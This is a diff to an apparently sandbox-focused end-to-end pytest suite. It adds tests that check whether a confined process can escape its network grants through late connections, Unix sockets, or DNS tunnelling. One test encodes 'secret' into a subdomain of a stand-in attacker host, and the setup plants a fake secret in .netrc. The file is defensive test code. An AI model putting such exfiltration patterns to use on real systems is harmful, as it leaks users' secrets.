@@ -18,6 +18,7 @@ import pytest
 
 from tests.e2e.client import SessionEnded, failed, text
 from tests.e2e.test_shutdown import descendants, left
+from tests.e2e.test_victims_network import Host
 from tests.e2e.victim import SECRET, Victim
 
 pytestmark = pytest.mark.needs("user", "userns", "landlock", "seccomp")
@@ -123,6 +124,52 @@ def connects_to_the_host(victim: Victim) -> bool:
     return SECRET in said
 
 
+def talks_to(victim: Victim, tool: str, act: str, **acts: object) -> bool:
+    host = Host()
+    try:
+        said = text(victim.act(tool, act, host="127.0.0.1", port=host.port, **acts))
+        if act == "connect_later":
+            said = text(victim.act("nothing", "await_file", path=acts["path"], seconds=5))
+        return SECRET in said
+    finally:
+        host.close()
+
+
+def connects_to_a_host_that_another_tool_was_granted(victim: Victim) -> bool:
+    return talks_to(victim, "nothing", "connect_tcp")
+
+
+def connects_when_its_call_is_over(victim: Victim) -> bool:
+    return talks_to(victim, "caller", "connect_later", path="/tmp/late-net", delay=0.4)
+
+
+def tells_a_name_server_something(victim: Victim) -> bool:
+    return not failed(victim.act("nothing", "tunnel_by_name", name="c2VjcmV0.attacker.example", kind=1))
+
+
+def connects_to_a_socket_in_a_directory_it_may_read(victim: Victim) -> bool:
+    directory = victim.case("socket")
+    here = os.getcwd()
+    with socket.socket(socket.AF_UNIX) as listener:
+        os.chdir(directory / "r")
+        listener.bind("s")
+        os.chdir(here)
+        listener.listen()
+        listener.settimeout(1)
+        victim.act(
+            "reader",
+            "connect_unix_relative",
+            {"path": str(directory / "r")},
+            directory=str(directory / "r"),
+            name="s",
+        )
+        try:
+            listener.accept()[0].close()
+        except TimeoutError:
+            return False
+    return True
+
+
 def runs_a_program_nobody_granted(victim: Victim) -> bool:
     return not failed(victim.act("nothing", "execute", argv=["/usr/bin/id"]))
 
@@ -156,14 +203,25 @@ def outlives_the_launcher(victim: Victim) -> bool:
     return bool(alive)
 
 
+OF_THE_NETWORK = (
+    connects_to_a_host_that_another_tool_was_granted,
+    connects_when_its_call_is_over,
+    tells_a_name_server_something,
+)
+"""Acts of a server that is granted some of the network."""
+
+
 def run(layers: str, act: Act, lacking: str = "") -> bool:
     launcher = [sys.executable, "-I", "-B", str(WITHOUT), layers]
     name = f"layer-{layers or 'all'}-{act.__name__}{'-c' if lacking else ''}".replace(" ", "-").replace(
         ",", "+"
     )
     setup = "echo SECRET-B > home/.netrc; echo x > home/.profile"
+    grant = "victim_network" if act in OF_THE_NETWORK else "victim"
     options = ["--limit-memory", str(MEMORY_LIMIT)] if act is holds_more_memory_than_its_limit else []
-    with Victim(name, launcher=launcher, options=options, setup=setup, lacking=lacking) as victim:
+    with Victim(
+        name, launcher=launcher, options=options, setup=setup, grant=grant, lacking=lacking
+    ) as victim:
         return act(victim)
 
 
@@ -181,6 +239,10 @@ SEEN = [
     ("procfs", reads_pid_ones_environment),
     ("system calls", makes_a_keyring),
     ("network", connects_to_the_host),
+    ("hosts", connects_to_a_host_that_another_tool_was_granted),
+    ("hosts", connects_when_its_call_is_over),
+    ("names", tells_a_name_server_something),
+    ("path sockets", connects_to_a_socket_in_a_directory_it_may_read),
     ("limits", forks_without_end),
     ("memory", holds_more_memory_than_its_limit),
     ("life", outlives_the_launcher),
@@ -189,6 +251,7 @@ SEEN = [
 ]
 SECOND = [
     # One of two layers that hold the same: alone it is enough.
+    ("windows", connects_when_its_call_is_over),
     ("view,broker", reads_a_file_nobody_granted),
     ("view,landlock", reads_a_file_nobody_granted),
     ("broker,landlock", reads_a_file_nobody_granted),
